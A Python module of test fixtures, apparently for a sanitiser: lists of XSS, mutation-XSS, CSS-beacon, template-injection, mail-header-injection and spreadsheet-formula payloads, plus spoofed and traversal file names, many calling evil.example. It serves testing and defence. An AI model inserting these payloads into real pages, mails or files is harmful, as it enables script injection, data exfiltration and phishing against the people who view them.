"""Words that try to become scripts, styles, requests or other words, by what they try. All of our own making.

Each is a text of its own. `MARKUP` also stands in mails as their HTML, where markup is what is meant to be there.
"""

# ruff: noqa: E501 - a text is easier to read whole
from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence

WORDS: Sequence[str] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<img src=//evil.example/a.png>",
    "<svg/onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '"><script>alert(5)</script>',
    "'><img src=x onerror=alert(6)>",
    '" onmouseover=alert(7) autofocus onfocus=alert(8) x="',
    "' onfocus=alert(9) autofocus='",
    "</title><script>alert(10)</script>",
    "</textarea><script>alert(11)</script>",
    "</script><script>alert(12)</script>",
    "--><script>alert(13)</script>",
    "]]><script>alert(14)</script>",
    "<iframe src=javascript:alert(15)></iframe>",
    "<iframe srcdoc='<script>parent.alert(16)</script>'></iframe>",
    "<a href=javascript:alert(17)>here</a>",
    "javascript:alert(18)",
    "data:text/html,<script>alert(19)</script>",
    "<form action=https://evil.example><button autofocus>Go</button></form>",
    "<button formaction=javascript:alert(20)>Go</button>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/b.css';</style>",
    "<div style='background:url(https://evil.example/c.png)'>x</div>",
    "<object data=javascript:alert(21)></object>",
    "<embed src=https://evil.example/d.swf>",
    "<video><source onerror=alert(22)></video>",
    "<details open ontoggle=alert(23)>x</details>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(24)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(25)>'></noscript>",
    "<template><script>alert(26)</script></template>",
    "<div hx-get=https://evil.example/ hx-trigger=load>x</div>",
    "<div hx-on:load=alert(27) hx-trigger=load>x</div>",
    "<x data-hx-get=/tech/sign-out/ data-hx-trigger=load>x</x>",
    "{{constructor.constructor('alert(28)')()}}",
    "${alert(29)}`${alert(30)}`",
    "&lt;script&gt;alert(31)&lt;/script&gt;",
    "\u202e<script>alert(32)</script>\u2028\u2029",
    "＜script＞alert(33)＜/script＞",
    "<a href='https://evil.example' ping='https://evil.example/p'>x</a>",
]


MARKUP: Mapping[str, Sequence[str]] = {
    "parsers that disagree (mXSS)": [
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(100)&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(101)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(102)>",
        "<noscript><style></noscript><img src=x onerror=alert(103)></style></noscript>",
        '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(104)>">',
        "<table><tr><td><svg><desc><table><tbody><tr><script>alert(105)</script>",
        '<xmp><p title="</xmp><img src=x onerror=alert(106)>">',
        "<plaintext><img src=x onerror=alert(107)>",
        "<listing>&lt;img src=x onerror=alert(108)&gt;</listing>",
        '<textarea><img title="</textarea><img src onerror=alert(109)>">',
        "<!--><img src=x onerror=alert(110)>-->",
        "<!--!><img src=x onerror=alert(111)>--!>",
        "<![CDATA[<img src=x onerror=alert(112)>]]>",
        "<?php ?><img src=x onerror=alert(113)>?>",
        "<p id='<img src=x onerror=alert(114)>'>`<img title='` onerror=alert(115)'>",
        "<a><b><a><img src=x onerror=alert(116)></b></a>",
        "<<script>alert(117)//<</script>",
        "<scr<script>ipt>alert(118)</scr</script>ipt>",
        "<img src='x\"onerror=alert(119)//'>",
        '<br/onmouseover=alert(120)/x="><img/src/onerror=alert(121)>',
    ],
    "other namespaces": [
        "<svg><a xlink:href='javascript:alert(130)'><text y=20>here</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(131) /><set attributeName=onload to=alert(132) /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(133)</script></svg>#x'/>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.alert(134)</script>'></iframe></foreignObject></svg>",
        "<svg><image href=https://evil.example/svg.png /><feImage href=https://evil.example/fe.png /></svg>",
        "<svg><style>@import url(https://evil.example/svg.css);*{background:url(https://evil.example/svg-bg)}</style></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(135)</handler></svg>",
        "<math href='javascript:alert(136)'>here</math><math><maction actiontype=statusline xlink:href=javascript:alert(137)>x",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(138)></annotation-xml></math>",
        "<svg><title><img src=x onerror=alert(139)></title></svg>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(140)</x:script>",
        "<html xmlns:v='urn:schemas-microsoft-com:vml'><v:rect><v:fill src='https://evil.example/vml.png'/></v:rect>",
    ],
    "style sheets": [
        "<style>body{background:url(https://evil.example/s1)}@font-face{font-family:x;src:url(https://evil.example/s2)}</style>",
        "<link rel=stylesheet href='data:text/css,*{background:url(https://evil.example/s3)}'>",
        '<p style="background:u\\72l(https://evil.example/s4)">x',
        "<p style=\"background-image:image-set('https://evil.example/s5' 1x)\">x",
        '<p style="list-style:url(https://evil.example/s6);cursor:url(https://evil.example/s7),auto">x',
        '<p style="content:url(https://evil.example/s8);mask:url(https://evil.example/s9#m);filter:url(https://evil.example/s10#f)">x',
        '<p style="border-image:url(https://evil.example/s11) 1;shape-outside:url(https://evil.example/s12)">x',
        '<p style="width:expression(alert(150));behavior:url(https://evil.example/s13);-moz-binding:url(https://evil.example/s14)">x',
        '<p style="--x:url(https://evil.example/s15);background:var(--x)">x',
        "<style>input[value^=a]{background:url(https://evil.example/s16)}</style><input value=abc>",
        '<div style="position:fixed;inset:0;z-index:99;opacity:0"><a href=https://evil.example/cover>x</a></div>',
        "<table background=https://evil.example/s17><td background=https://evil.example/s18>x</table><body background=https://evil.example/s19>",
        "<p style='color:red;}*{background:url(https://evil.example/s20)}'>x",
    ],
    "addresses": [
        "<a href='java\tscript:alert(160)'>x</a><a href=' \x01javascript:alert(161)'>x</a><a href='&#106;avascript&colon;alert(162)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxNjMpPC9zY3JpcHQ+'>x</a><a href=vbscript:msgbox(164)>x</a>",
        "<a href='https://evil.example/out' target=_top>x</a><a href=https://evil.example/blank target=_blank ping=https://evil.example/ping>x</a>",
        "<area href=javascript:alert(165) shape=default><map name=m><area href=https://evil.example/area></map><img usemap=#m src=x>",
        "<a href='//evil.example/relative'>x</a><a href='/tech/sign-out/'>x</a><a href='\\\\evil.example\\x'>x</a>",
        "<img src=javascript:alert(166)><img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(167)/>'>",
        "<img src='data:text/html,<script>alert(168)</script>'><img src=view-source:https://evil.example/v><img src=file:///etc/passwd>",
        "<img src='cid:nothing\" onerror=\"alert(169)'><a href='blob:https://evil.example/x'>x</a><a href=intent://evil.example#Intent;end>x</a>",
        "<blockquote cite=https://evil.example/cite>x</blockquote><q cite=javascript:alert(170)>x</q><del cite=https://evil.example/del>x</del>",
    ],
    "pictures, sound, film": [
        "<img srcset='https://evil.example/p1 1x, https://evil.example/p2 2x' sizes=100vw>",
        "<picture><source srcset=https://evil.example/p3><img src=https://evil.example/p4></picture>",
        "<video poster=https://evil.example/p5 src=https://evil.example/p6 autoplay onloadstart=alert(180)></video>",
        "<audio src=https://evil.example/p7 autoplay oncanplay=alert(181)><source src=https://evil.example/p8></audio>",
        "<video><track src=https://evil.example/p9 default></video><image src=https://evil.example/p10>",
        "<img src=x loading=lazy onerror=alert(182)><img lowsrc=https://evil.example/p11 dynsrc=https://evil.example/p12>",
        "<input type=image src=https://evil.example/p13 onerror=alert(183)><bgsound src=https://evil.example/p14>",
        "<img src='https://evil.example/p15?who=you' width=1 height=1><img src=http://evil.example:8080/p16>",
    ],
    "what browsers do ahead": [
        "<link rel=prefetch href=https://evil.example/h1><link rel=preload as=image href=https://evil.example/h2>",
        "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example>",
        "<link rel=modulepreload href=https://evil.example/h3><link rel=icon href=https://evil.example/h4>",
        "<link rel=manifest href=https://evil.example/h5><link rel=prerender href=https://evil.example/h6>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(190)'><meta http-equiv=refresh content='0;https://evil.example/h7'>",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src 'unsafe-inline'\"><script>alert(191)</script>",
        "<meta http-equiv=set-cookie content='x=y'><meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on>",
        "<base href=https://evil.example/h8/><base target=_top><img src=h9.png><a href=h10>x</a>",
        '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/h11"]}]}</script>',
    ],
    "frames and parts": [
        "<iframe src=https://evil.example/f1></iframe><frameset><frame src=https://evil.example/f2></frameset>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.alert(200)&gt;' sandbox='allow-scripts allow-same-origin'></iframe>",
        "<object data='data:text/html,<script>alert(201)</script>'></object><embed src='data:text/html,<script>alert(202)</script>'>",
        "<object type=text/html data=https://evil.example/f3><param name=movie value=https://evil.example/f4></object>",
        "<applet code=X codebase=https://evil.example/f5></applet><portal src=https://evil.example/f6></portal>",
        "<fencedframe></fencedframe><webview src=https://evil.example/f7></webview><dialog open onclose=alert(203)>x</dialog>",
        "<template shadowrootmode=open><img src=x onerror=alert(204)></template><slot onslotchange=alert(205)></slot>",
    ],
    "forms": [
        "<form action=https://evil.example/o1><input name=a value=b autofocus onfocus=alert(210)><input type=submit></form>",
        "<form id=f action=https://evil.example/o2></form><button form=f autofocus>x</button>",
        "<isindex action=javascript:alert(211) prompt=x><keygen autofocus onfocus=alert(212)>",
        "<input type=password name=password autocomplete=current-password><textarea name=x autofocus onfocus=alert(213)></textarea>",
        "<select autofocus onfocus=alert(214)><option>x</select><video controls onvolumechange=alert(215)></video>",
        "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(216)>x</div>",
        "<button commandfor=confirm command=close>x</button><label for=main>x</label><output onclick=alert(217)>x</output>",
    ],
    "events": [
        "<p onclick=alert(220) onpointerenter=alert(221) onanimationstart=alert(222) style=animation:x>x",
        "<style>@keyframes x{}</style><b style='animation-name:x' onanimationend=alert(223)>x</b>",
        "<body onload=alert(224) onpageshow=alert(225) onhashchange=alert(226)><p onscrollend=alert(227)>x",
        "<div contenteditable oninput=alert(228) onpaste=alert(229)>x</div><marquee onstart=alert(230)>x</marquee>",
        "<details ontoggle=alert(231) open><summary onfocus=alert(232) tabindex=1 autofocus>x</summary></details>",
        "<a accesskey=x onclick=alert(233) href=#>x</a><p oncontentvisibilityautostatechange=alert(234) style=content-visibility:auto>x",
        "<IMG SRC=x ONERROR=alert(235)><img/src=x/onerror=alert(236)><img src=x\x0conerror=alert(237)><img\x0bsrc=x onerror=alert(238)>",
    ],
    "names of the page's own things": [
        "<img name=body><form name=forms id=cookie><input name=querySelectorAll></form><a id=defaultView href=x>x</a>",
        "<div id=main class='dialog open' role=alertdialog aria-modal=true>Your session ended</div>",
        "<div data-mentionable data-filter='#main' data-confirm=x hx-post=/tech/mail/test/ hx-trigger=load>x</div>",
        "<script nonce=x>alert(240)</script><script src=https://evil.example/n1 nonce=y></script>",
    ],
}

UNSEEN: Sequence[str] = [
    "+ADw-script+AD4-alert(250)+ADw-/script+AD4-",
    "\x1b$B<script>alert(251)</script>\x1b(B",
    "\xbcscript\xbealert(252)\xbc/script\xbe",
    "%3Cscript%3Ealert(253)%3C/script%3E",
    "\\u003cscript\\u003ealert(254)\\u003c/script\\u003e",
    "\ufeff<script>alert(255)</script>",
    "<scr\u00adipt>alert(256)</scr\u00adipt><scr\u200dipt>alert(257)</script>",
    "<\u017fcript>alert(258)</\u017fcript><\u212amg>",
    "invoice_\u202efdp.exe",
    "\u2067Kim\u2069 \u2066Jansen \u061c\u200f",
    "\u202d\u202e\u202a\u202b\u202c x",
    "K\u0069\u0307\u0300\u0301\u0302\u0303\u0304\u0305\u0306m",
    "\ue000\ufff9\ufffa\ufffb\U000e0041",
    "{% raw %}{{ 7*7 }}{% endraw %}{{ self.__init__.__globals__ }}",
    "<%= 7*7 %>#{7*7}*{7*7}@(7*7)[[7*7]]",
    '=HYPERLINK("https://evil.example/","x")',
    "\r\nBcc: mallory@evil.example\r\nX-Evil: 1",
]

NAMES_OF_FILES: Sequence[str] = [
    '"><img src=x onerror=alert(43)>.png',
    "'-alert(44)-'.html",
    "javascript:alert(45).svg",
    "photo_\u202egpj.exe",
    "..\\..\\<svg onload=alert(46)>.xml",
    "a.png\r\nSet-Cookie: x=y",
    "\u2066\u2067.pdf",
    "con.html",
]


def together(words: Sequence[str], most: int) -> Iterator[str]:
    """The words in lines of at most `most` characters; one that is longer is left to the texts, which hold all."""
    line = ""
    for word in words:
        if line and len(line) + len(word) >= most:
            yield line
            line = ""
        if len(word) < most:
            line = f"{line} {word}".strip()
    if line:
        yield line
